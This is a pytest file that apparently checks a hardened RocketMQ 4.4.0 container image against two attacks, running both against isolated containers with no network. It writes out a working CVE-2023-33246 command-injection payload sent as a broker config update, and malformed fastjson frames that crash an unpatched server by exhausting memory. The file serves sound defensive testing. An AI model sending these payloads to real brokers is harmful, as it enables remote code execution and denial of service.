# Copyright (c) 2026, mqops.rocketmq contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Two attacks on real servers in the deployed image, and on servers without its protection, where they succeed.

Each server has a container and a network of its own, which has nothing but the loopback.
"""

from __future__ import annotations

import base64
import json
import os
import struct
import time
from collections.abc import Callable, Iterator

import pytest
import testinfra

DEPLOYED = os.environ.get("ROCKETMQ_DEPLOYED_IMAGE", "mqops/rocketmq:4.4.0")
ORIGINAL = os.environ.get("ROCKETMQ_IMAGE", "mqops/rocketmq:4.4.0-original")
LABEL = "mqops.lab=image-attacks"
PORTS = {"broker": 10911, "namesrv": 9876}
CONFIGURATION = {
    "broker": "brokerIP1=127.0.0.1\\nmapedFileSizeCommitLog=1048576\\ndiskMaxUsedSpaceRatio=95\\n",
    "namesrv": "",
}
# The start line as it would be without the PATH that names nothing.
UNPROTECTED = "sed 's/env PATH=[^ ]* //' /usr/local/bin/rocketmq >/tmp/rocketmq && chmod +x /tmp/rocketmq &&"
UPDATE_BROKER_CONFIG, GET_BROKER_CONFIG, GET_NAMESRV_CONFIG = 25, 26, 319
# CVE-2023-33246: within 30 s the broker runs "sh", the value as it stands, and a name below it, split at blanks.
START_A_PROCESS = b"filterServerNums=1\nrocketmqHome=-c $@|sh . echo touch /tmp/started;\n"
# fastjson 1.2.51 reads on behind the end of the text.
NEVER_ENDING = [rb'{"code":105,"zzz":"a\x]', rb'{"code":105,"extFields":{"a":"b\x]']
# Sends a frame, and prints the body of the answer, or how there was none.
ASK = r"""
exec 3<>/dev/tcp/127.0.0.1/"$1" || exit 1
base64 -d <<<"$2" >&3
length=$(set -o pipefail; timeout 30 head -c 4 <&3 2>/dev/null | od -An -tx1 | tr -d ' \n')
if [ $? = 124 ]; then echo silent; exit; fi
if [ -z "$length" ]; then echo closed; exit; fi
timeout 30 head -c $((16#$length)) <&3 | base64 -w 0
"""
local = testinfra.get_host("local://")


def frame(header: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">II", 4 + len(header) + len(body), len(header)) + header + body


def request(code: int, body: bytes = b"") -> bytes:
    return frame(json.dumps({"code": code, "flag": 0, "language": "JAVA", "opaque": 7, "version": 293}).encode(), body)


def await_(what: str, found: Callable[[], bool], seconds: float) -> None:
    """Fails when it is not so within that time."""
    end = time.monotonic() + seconds
    while not found():
        assert time.monotonic() < end, f"{what}: not within {seconds:g} s"
        time.sleep(0.5)


class Server:
    """A container with one server. ``what`` is broker or namesrv."""

    def __init__(self, image: str, what: str, protected: bool) -> None:
        self.what = what
        command = f"printf '{CONFIGURATION[what]}' >/etc/rocketmq/{what}.conf; "
        command += f"exec rocketmq {what}" if protected else f"{UNPROTECTED} exec /tmp/rocketmq {what}"
        self.id = local.check_output(
            # 4.4.0 does not start where its host's name has no address.
            f"docker run --detach --network none --hostname localhost --label {LABEL} --env JAVA_HEAP=128m "
            "--env JAVA_DIRECT=64m --env JAVA_GC=serial --env JAVA_OPTIONS=-XX:TieredStopAtLevel=1 "
            f"--entrypoint sh {image} -c %s",
            command,
        )

    def run(self, *words: str) -> testinfra.backend.base.CommandResult:
        return local.run(" ".join(["docker", "exec", self.id, *["%s"] * len(words)]), *words)

    def state(self) -> list[str]:
        """Running, process, exit code."""
        form = "{{.State.Running}} {{.State.Pid}} {{.State.ExitCode}}"
        return local.check_output(f"docker inspect --format '{form}' {self.id}").split()

    def ask(self, raw: bytes) -> bytes | str:
        """The answer without its length, or why there is none: closed, silent, or what docker says."""
        done = self.run("bash", "-c", ASK, "ask", str(PORTS[self.what]), base64.b64encode(raw).decode())
        said = done.stdout.strip()
        # A server that ends takes its container with it, and what runs there.
        if done.rc:
            return f"docker exec ended with {done.rc}: {done.stderr}"
        return said if said in ("closed", "silent") else base64.b64decode(said)

    def healthy(self) -> bool:
        return self.run("rocketmq-health").rc == 0

    def listens(self) -> bool:
        assert self.state()[0] == "true", local.run(f"docker logs {self.id}")
        return self.healthy()

    def log(self) -> str:
        return self.run("cat", "/var/log/rocketmq/broker.log").stdout

    def answers(self) -> bool:
        answer = self.ask(request(GET_BROKER_CONFIG if self.what == "broker" else GET_NAMESRV_CONFIG))
        return isinstance(answer, bytes) and b"rocketmqHome=" in answer


@pytest.fixture(scope="module")
def servers() -> Iterator[dict[tuple[str, bool], Server]]:
    """By what they are and whether they are protected; those that run nothing else start side by side."""
    _remove()
    try:
        found = {
            (what, protected): Server(DEPLOYED if protected else ORIGINAL, what, protected)
            for what in PORTS
            for protected in (True, False)
        }
        for server in found.values():
            await_(f"{server.what} listens", server.listens, 60)
        for protected in (True, False):
            answer = found["broker", protected].ask(request(UPDATE_BROKER_CONFIG, START_A_PROCESS))
            assert isinstance(answer, bytes) and b'"code":0' in answer, answer
        yield found
    finally:
        _remove()


def _remove() -> None:
    found = local.check_output(f"docker ps --all --quiet --filter label={LABEL}").split()
    if found:
        local.check_output(f"docker rm --force --volumes {' '.join(found)}")


def test_a_broker_of_the_deployed_image_starts_no_process(servers: dict[tuple[str, bool], Server]) -> None:
    broker = servers["broker", True]
    # The schedule is 30 s.
    await_("the broker tries to start a process", lambda: "CallShell" in broker.log(), 45)
    assert 'Cannot run program "sh"' in broker.log()
    assert "CallShell: <" not in broker.log()
    assert broker.run("ls", "/tmp/started").rc == 2
    assert broker.healthy() and broker.answers()


def test_a_broker_without_that_path_starts_one(servers: dict[tuple[str, bool], Server]) -> None:
    broker = servers["broker", False]
    await_("the process has run", lambda: broker.run("ls", "/tmp/started").rc == 0, 45)
    await_("the broker says so", lambda: "CallShell: <sh -c $@|sh" in broker.log(), 10)


@pytest.mark.parametrize("what", PORTS)
def test_a_server_of_the_deployed_image_refuses_the_frame_and_serves_on(
    servers: dict[tuple[str, bool], Server], what: str
) -> None:
    server = servers[what, True]
    before = server.state()
    for header in NEVER_ENDING:
        assert server.ask(frame(header)) == "closed"
        assert server.answers()
    assert server.state() == before and before[0] == "true"


# The last ones here, for they end what the tests above look at.
@pytest.mark.parametrize("what", PORTS)
def test_a_server_with_the_original_library_ends(servers: dict[tuple[str, bool], Server], what: str) -> None:
    server = servers[what, False]
    assert server.answers()
    server.ask(frame(NEVER_ENDING[0]))
    await_("it has ended", lambda: server.state()[0] == "false", 30)
    # 3: the memory was full.
    assert server.state()[2] == "3"
